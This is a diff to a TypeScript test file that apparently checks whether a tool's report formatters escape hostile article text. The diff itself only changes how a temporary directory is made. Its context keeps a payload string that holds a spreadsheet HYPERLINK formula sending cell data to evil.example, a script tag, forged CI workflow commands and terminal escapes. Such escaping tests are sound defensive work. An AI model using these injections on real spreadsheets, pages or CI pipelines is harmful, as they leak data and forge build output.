@@ -2,8 +2,7 @@
 // workflow commands, %0A and real line breaks, table pipes, terminal escapes) reaches no output format unescaped.
 // Two ways in: a hand-built report with the payload in every article-derived string, run through every formatter;
 // and real articles (text and HTML) with the payload, run through the CLI in every format.
-import { mkdtemp, writeFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
+import { writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import type { Report } from '../../src/model/report.js';
@@ -13,6 +12,7 @@ import { runInProcess } from '../cli/run.js';
 import { parseAnnotation } from '../report/ci-parse.js';
 import { conflictReport } from '../report/conflict-report.js';
 import { parseCsv } from '../report/csv-parse.js';
+import { tempDir } from '../temp.js';
 
 const PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> ::error::pwned %0A::warning::injected\r\n::error file=x::real newline | *md* `code` \u001b[31mred\u001b[0m,comma:colon';
 
@@ -95,7 +95,7 @@ describe('every formatter escapes article text', () => {
 describe('hostile articles through the CLI, every format', () => {
   let dir: string;
   beforeAll(async () => {
-    dir = await mkdtemp(path.join(tmpdir(), 'facts-escape-'));
+    dir = tempDir('escape');
     await writeFile(
       path.join(dir, 'a.txt'),
       [
